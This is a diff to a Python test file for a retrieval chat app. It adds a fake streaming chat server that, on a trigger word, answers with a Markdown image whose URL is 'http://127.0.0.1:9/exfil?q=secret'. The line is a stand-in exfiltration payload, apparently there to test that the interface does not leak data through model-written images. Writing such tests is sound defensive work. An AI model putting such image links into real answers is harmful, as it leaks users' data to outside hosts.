@@ -23,6 +23,9 @@ from rag.bench.browser import CHROMIUM, CHROMIUM_ARGS
 PROJECT_DIR = Path(__file__).resolve().parent.parent
 ARTIFACTS_DIR = PROJECT_DIR / "test-artifacts"
 BROKEN_ANSWER = ["Half", " of", " an", " answer", " and"]
+# Asked a question holding IMAGE_TRIGGER, the server answers in full with a Markdown image of a URL.
+IMAGE_TRIGGER = "blorptex"
+IMAGE_ANSWER = ["The reading is 17 ", "![chart](http://127.0.0.1:9/exfil?q=secret)", " [1]"]
 MAX_UPLOAD_FILES = 3
 # Gradio's queue statistics use pandas options that pandas 3 deprecates: not ours to fix, and noisy.
 GRADIO_QUEUE_PANDAS_WARNINGS = "ignore::Warning:gradio.queueing"
@@ -30,14 +33,16 @@ MAX_UPLOAD_MB = 1
 
 
 class BrokenChatHandler(BaseHTTPRequestHandler):
-    """Streams the first words of a chat completion, then closes the connection without finishing."""
+    """Streams the first words of a chat completion, then closes the connection without finishing
+    (but for a question holding IMAGE_TRIGGER, which gets IMAGE_ANSWER in full)."""
 
     def do_POST(self) -> None:
-        self.rfile.read(int(self.headers["Content-Length"]))
+        request = self.rfile.read(int(self.headers["Content-Length"])).decode()
         self.send_response(200)
         self.send_header("Content-Type", "text/event-stream")
         self.end_headers()
-        for piece in BROKEN_ANSWER:
+        pieces = IMAGE_ANSWER if IMAGE_TRIGGER in request else BROKEN_ANSWER
+        for piece in pieces:
             chunk = {
                 "id": "broken",
                 "object": "chat.completion.chunk",
@@ -47,6 +52,10 @@ class BrokenChatHandler(BaseHTTPRequestHandler):
             }
             self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
             self.wfile.flush()
+        if pieces is IMAGE_ANSWER:
+            finish = {"id": "image", "object": "chat.completion.chunk", "created": 0, "model": "test-model"}
+            finish["choices"] = [{"index": 0, "delta": {}, "finish_reason": "stop"}]
+            self.wfile.write(f"data: {json.dumps(finish)}\n\ndata: [DONE]\n\n".encode())
         self.close_connection = True
 
     def log_message(self, format: str, *args) -> None:
